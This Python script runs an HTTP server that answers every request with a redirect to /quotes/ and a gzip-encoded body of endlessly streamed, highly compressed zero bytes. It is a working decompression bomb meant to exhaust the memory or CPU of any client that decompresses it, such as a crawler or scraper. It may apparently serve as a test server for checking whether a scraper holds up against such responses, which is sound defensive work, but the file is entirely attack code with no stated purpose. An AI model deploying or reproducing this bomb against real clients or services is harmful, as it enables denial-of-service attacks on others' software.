import os
import socket
import threading
import zlib

packer = zlib.compressobj(9, wbits=31)
START = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
MORE = packer.compress(bytes(1 << 26)) + packer.flush(zlib.Z_FULL_FLUSH)
listener = socket.create_server(("", int(os.environ["PORT"])))


def serve(connection):
    connection.recv(65536)
    connection.sendall(b"HTTP/1.1 302 Found\r\nLocation: /quotes/\r\n")
    connection.sendall(b"Content-Encoding: gzip\r\n\r\n" + START)
    while True:
        connection.sendall(MORE)


while True:
    threading.Thread(target=serve, args=(listener.accept()[0],), daemon=True).start()
